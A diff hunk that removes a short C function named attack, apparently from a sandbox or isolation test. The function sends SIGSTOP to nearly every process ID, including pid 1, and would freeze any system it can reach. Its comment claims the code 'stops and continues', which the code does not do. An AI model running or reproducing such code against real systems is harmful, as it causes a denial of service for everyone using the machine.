@@ -1,9 +1,0 @@
-/* Stops and continues all that it can name for ever, the first process of its room as well. */
-#include <sys/syscall.h>
-static void attack(void)
-{
-    for (int i = 0; i < 3; i++)
-        for (int pid = 1; pid < 70000; pid++)
-            if (pid != getpid())
-                syscall(SYS_kill, pid, SIGSTOP);
-}
